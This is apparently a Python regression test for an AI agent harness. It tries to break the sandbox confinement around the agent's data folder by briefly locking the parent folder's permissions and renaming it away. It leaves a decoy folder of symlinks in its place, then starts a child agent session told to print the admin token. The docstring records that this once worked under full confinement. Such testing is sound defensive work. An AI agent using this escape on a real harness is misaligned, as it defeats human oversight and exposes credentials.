"""Moves the data folder's parent away and leaves a decoy, so that the next session hides the decoy.

Tries: `mv state moved`, a folder `state/perdure` of its own with symlinks to the real files, and a
child session, whose agentctl is told to hide `state/perdure`.
Before it, it takes its right to write away from the folder above, which it owns, starts another
session, and gives it back: what is pinned only where it can be written is not pinned then.
Would prove: the cover is found by its path, so an agent reads the admin token and the journal.
Saw (before the fix): the child printed the token, with confinement "full".
"""
import os
import shutil
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
from wire import Api

CONTROL = "unconfined"
PARTS = ["perdure.db", "perdure.db-wal", "perdure.db-shm", "perdure.db.reserve", "env", "log",
         "probes", "remotes", "token", "wait.key", "workspaces", "worktrees", "lock"]


def attack(world):
    found = []
    above = world.data.parent.parent
    for how, mode in (("plainly", 0o700), ("made while the folder above was read-only", 0o500)):
        above.chmod(mode)  # the agent owns it, so it may do so itself
        session = world.session(cwd=str(world.work), title=how)
        world.shell(session, ["true"])
        above.chmod(0o700)
        output = world.inside(session, __file__, world.data, world.work)
        if world.token in output:
            found.append(f"the token was read in the moved folder, {how}")
        if "RENAMED" in output and os.getuid() != 0:  # root could undo the protection
            found.append(f"the folder above the data folder could be moved away, {how}")
        moved = world.data.parent.with_name("state.moved")
        if moved.exists():
            shutil.rmtree(world.data.parent)
            moved.rename(world.data.parent)
    return found


def inside(data, work):
    parent = os.path.dirname(data)
    moved = parent + ".moved"
    try:
        os.rename(parent, moved)
        print("RENAMED")
    except OSError as error:
        print("rename of the parent:", error)
        moved = parent
    if moved != parent:
        os.makedirs(data, 0o700)
        for part in PARTS:
            os.symlink(f"../../{os.path.basename(moved)}/perdure/{part}", f"{data}/{part}")
        for folder in ("run/agentctl", "run/containers", "spool"):
            os.makedirs(f"{data}/{folder}", 0o700)
    real = f"{moved}/perdure"
    api = Api(f"{real}/run/perdure.sock")
    status, answer = api.post("/api/sessions", {
        "agent": "puppet", "cwd": work, "prompt": f"run cat {real}/token {data}/token"})
    print("the child:", status, str(answer)[:300])
    if status != 201:
        return
    child = answer["session"]["id"]
    for _ in range(200):
        found = api.get(f"/api/sessions/{child}")[1]["session"]
        if found["error_code"] or (found["last_run"] and not found["run"]):
            break
        time.sleep(0.03)
    print(found["error_message"], api.get(f"/api/sessions/{child}/transcript"))


if __name__ == "__main__":
    inside(*sys.argv[1:])
